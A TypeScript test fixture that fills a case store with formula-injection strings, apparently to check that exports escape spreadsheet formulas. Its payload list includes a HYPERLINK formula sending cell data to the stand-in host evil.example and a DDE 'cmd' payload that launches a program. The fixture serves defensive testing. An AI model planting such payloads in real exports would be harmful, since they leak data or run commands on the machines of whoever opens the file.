import { join } from 'node:path';
import { CaseStore } from '../../../../main/core/store/case-store.js';

/** Text a hostile document could put into a case: each would run as a formula if written raw. */
export const HOSTILE_CELLS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
];

/** A case whose labels, notes, aliases and link types are all hostile cells. */
export function hostileCase(dir: string): CaseStore {
  const store = CaseStore.create(join(dir, 'hostile.dossier'), { title: 'hostile' });
  const ids = HOSTILE_CELLS.map(
    (h, i) =>
      store.insert('entity', {
        type: 'person',
        label: h,
        properties: {},
        notes: HOSTILE_CELLS[(i + 1) % HOSTILE_CELLS.length]!,
        status: 'suggested',
      }).id,
  );
  store.insert('alias', { entityId: ids[0]!, alias: '=1+2' });
  ids.slice(1).forEach((id, i) =>
    store.insert('link', {
      sourceId: ids[0]!,
      targetId: id,
      type: HOSTILE_CELLS[i]!,
      directed: i % 2 === 0,
      confidence: 0.5,
      credibility: null,
      firstSeen: null,
      lastSeen: null,
      status: 'suggested',
      properties: {},
    }),
  );
  return store;
}
